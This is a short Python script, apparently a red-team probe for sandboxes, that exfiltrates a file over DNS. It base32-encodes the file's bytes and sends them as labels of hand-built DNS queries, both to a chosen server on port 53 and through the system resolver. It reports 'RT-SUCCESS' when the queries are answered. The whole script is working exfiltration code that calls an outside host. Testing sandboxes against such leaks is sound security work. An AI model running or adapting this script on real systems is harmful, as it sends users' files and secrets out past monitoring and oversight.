"""DNS exfiltration: a file's bytes as base32 labels of queries, to a given server and the system resolver."""

import base64
import contextlib
import random
import socket
import struct
import sys

server, domain, path = sys.argv[1], sys.argv[2], sys.argv[3]
with open(path, "rb") as fh:
    raw = fh.read()
data = base64.b32encode(raw).decode().rstrip("=").lower()
chunks = [data[i : i + 40] for i in range(0, len(data), 40)][:6]


def query(name: str) -> bytes:
    head = struct.pack(">HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0)
    qname = b"".join(bytes([len(x)]) + x.encode() for x in name.split(".")) + b"\0"
    return head + qname + struct.pack(">HH", 1, 1)


answered = 0
for i, c in enumerate(chunks):
    name = f"{c}.{i}.{domain}"
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(0.5)
    try:
        s.sendto(query(name), (server, 53))
        s.recv(512)
        answered += 1
    except OSError:
        pass
    finally:
        s.close()
    with contextlib.suppress(OSError):  # also through whatever resolver the sandbox was given
        socket.getaddrinfo(name, 80)
if answered:
    print(f"RT-SUCCESS {answered} exfiltration queries answered by {server}")
